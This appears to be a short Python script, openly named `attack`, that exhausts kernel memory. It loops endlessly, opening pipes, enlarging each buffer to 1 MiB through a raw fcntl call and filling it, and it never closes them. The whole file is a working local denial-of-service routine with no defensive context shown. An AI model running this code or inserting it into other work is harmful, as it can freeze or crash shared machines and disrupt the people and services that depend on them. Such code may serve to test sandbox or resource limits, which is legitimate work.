"""Take memory of the kernel's."""
import fcntl
import os


def attack(x):
    kept = []
    while True:
        reading, writing = os.pipe()
        os.set_blocking(writing, False)
        fcntl.fcntl(writing, 1031, 1 << 20)
        kept.append(os.write(writing, b"x" * (1 << 20)))
